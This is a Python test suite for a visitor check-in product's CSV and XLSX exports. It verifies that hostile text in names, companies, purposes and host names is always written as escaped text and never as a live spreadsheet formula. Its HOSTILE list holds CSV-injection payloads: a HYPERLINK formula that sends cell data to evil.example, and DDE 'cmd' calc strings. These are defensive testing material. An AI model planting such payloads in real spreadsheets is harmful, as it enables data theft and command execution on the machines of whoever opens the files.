"""No file the product writes turns a typed text into a spreadsheet formula: every CSV and XLSX goes through
one writer, and every export is run here with hostile names, companies, purposes and host names, on both
databases, and read back with the csv module and openpyxl."""
from __future__ import annotations

import csv
import dataclasses
import re
from datetime import datetime, timezone
from pathlib import Path

import pytest
from hypothesis import given, strategies as st
from openpyxl import load_workbook

from shared.domain.model import Actor, WalkIn
from shared.services import checkin
from shared.services.common import export
from shared.services.directory import hosts
from shared.services.plans import reports
from shared.services.privacy import person_data, visitor_log
from shared.services.privacy.log_rows import LogQuery
from shared.services.security import onsite
from shared.store import models as db

ROOT = Path(__file__).resolve().parents[2]
EXPORT = "shared/services/common/export.py"
KIOSK = Actor("kiosk-1")
ADMIN = Actor("desk-1", "boss", "admin")
# Each passes the kiosk's validation (@ and - are punctuation) or is written straight to the store, as data
# from an import or an older release would be.
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "-2", "@SUM(A1)", "  =1+1",
           "\t=cmd|' /C calc'!A0", "\r=1", "＝1+1", "\u200b=1+1", "-2+3+cmd|' /C calc'!A0"]
TYPED_AT_KIOSK = ["@SUM(A1)", "-2", "-张三", "@某公司"]
NUMBER = re.compile(r"-?\d+(\.\d+)?%?")
FORMULA_LEAD = re.compile(r"^[\s\x00-\x1f\x7f\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]")


def _visit_with(store, hostile: str, index: int, host_id: int) -> None:
    mobile = f"139{index:08d}"
    visit = checkin.check_in_walk_in(store, KIOSK, WalkIn("来宾", mobile, "公司", host_id, purpose="洽谈"),
                                     "badge").value
    with store.write() as s:
        row = s.get(db.Visit, visit.id)
        row.purpose = hostile
        row.visitor.name = hostile
        row.visitor.company = hostile


def _hostile_site(store) -> None:
    host_id = hosts.add_host(store, "赵敏").value.id
    for index, name in enumerate(TYPED_AT_KIOSK):  # through the kiosk's own validation
        checkin.check_in_walk_in(store, KIOSK, WalkIn(name, f"137{index:08d}", name, host_id, purpose=name),
                                 "badge")
    for index, hostile in enumerate(HOSTILE):
        _visit_with(store, hostile, index, host_id)
    with store.write() as s:
        s.get(db.Host, host_id).name = HOSTILE[0]


def _log(fmt):
    def run(store, folder: Path) -> list[Path]:
        path = folder / f"log.{fmt}"
        visitor_log.export_log(store, ADMIN, LogQuery(), fmt, str(path))
        return [path]
    return run


def _onsite(store, folder: Path) -> list[Path]:
    path = folder / "onsite.csv"
    onsite.evacuation_csv(store, ADMIN, path)
    return [path]


def _person(store, folder: Path) -> list[Path]:
    out = []
    for index in range(len(HOSTILE)):
        data = person_data.person_export(store, ADMIN, mobile=f"139{index:08d}").value
        out.append(person_data.write_person_csv(data, folder / f"person-{index}.csv"))
    return out


def _report(fmt):
    def run(store, folder: Path) -> list[Path]:
        report = reports.monthly_report(store, ADMIN, 2026, 10, now=datetime(2026, 11, 2, tzinfo=timezone.utc))
        levels = tuple(dataclasses.replace(row, level=h) for row, h in zip(report.levels, HOSTILE))
        report = dataclasses.replace(report, levels=levels, total=dataclasses.replace(report.total, level=HOSTILE[3]))
        path = folder / f"report.{fmt}"
        reports.export_report(store, ADMIN, report, fmt, str(path))
        return [path]
    return run


# Every module that writes a file through the one writer -> what runs its exports here.
EXPORTERS = {
    "shared/services/privacy/visitor_log.py": (_log("csv"), _log("xlsx")),
    "shared/services/security/onsite.py": (_onsite,),
    "shared/services/privacy/person_data.py": (_person,),
    "shared/services/plans/reports.py": (_report("csv"), _report("xlsx")),
}
FILE_WRITERS = re.compile(r"csv\.(writer|DictWriter)\b|\bWorkbook\b|xlsxwriter|\.to_csv\(|\.to_excel\(|utf-8-sig\"?, newline")


def _sources():
    for top in ("shared", "console", "kiosk", "reception", "printers", "bench"):
        for path in sorted((ROOT / top).rglob("*.py")):
            yield path.relative_to(ROOT).as_posix(), path.read_text(encoding="utf-8")


def test_only_the_export_writer_writes_spreadsheets():
    offenders = [name for name, text in _sources() if name != EXPORT and FILE_WRITERS.search(text)]
    assert offenders == []


def test_every_module_using_the_writer_is_run_with_hostile_cells_here():
    users = {name for name, text in _sources()
             if name != EXPORT and re.search(r"common import (\w+, )*export\b|common\.export\b", text)}
    assert users == set(EXPORTERS)


def _cells(path: Path) -> list[tuple[object, str]]:
    """(value, data type) of every cell; CSV cells are text."""
    if path.suffix == ".csv":
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
        with path.open(encoding="utf-8-sig", newline="") as f:
            return [(c, "s") for row in csv.reader(f) for c in row]
    book = load_workbook(path)  # not data_only: a formula would come back as one
    return [(cell.value, cell.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


@pytest.mark.parametrize("module", sorted(EXPORTERS))
def test_every_export_writes_hostile_text_as_text(store, tmp_path, module):
    _hostile_site(store)
    for run in EXPORTERS[module]:
        cells = [c for path in run(store, tmp_path) for c in _cells(path)]
        assert cells
        formulas = [v for v, kind in cells if kind == "f"]
        assert formulas == []
        live = [v for v, _ in cells if isinstance(v, str) and FORMULA_LEAD.match(v) and not NUMBER.fullmatch(v)]
        assert live == []
        neutralised = {v[1:] for v, _ in cells if isinstance(v, str) and v.startswith("'")}
        assert neutralised & set(HOSTILE), "the hostile text reached the file, as text"


def test_numbers_stay_numbers_in_a_workbook(tmp_path):
    export.write_xlsx(tmp_path / "n.xlsx", "n", [["a", 3, -120, 4.5, "-7"]])
    assert [(v, k) for v, k in _cells(tmp_path / "n.xlsx")] == [("a", "s"), (3, "n"), (-120, "n"), (4.5, "n"),
                                                                 ("'-7", "s")]


@given(st.text(alphabet=st.sampled_from(list("=+-@ \t\r\n\u3000\u200b＝＠a1'")), max_size=8)
       | st.text(max_size=12))
def test_no_text_comes_out_as_a_formula(text):
    cell = export.safe_cell(text)
    assert not FORMULA_LEAD.match(cell)
    assert cell in (text, "'" + text)


def test_a_control_character_cannot_uncover_a_formula_in_a_workbook(tmp_path):
    export.write_xlsx(tmp_path / "c.xlsx", "c", [["\x01=1+1", "\x0b@SUM(A1)"]])
    assert all(kind == "s" and str(v).startswith("'") for v, kind in _cells(tmp_path / "c.xlsx"))
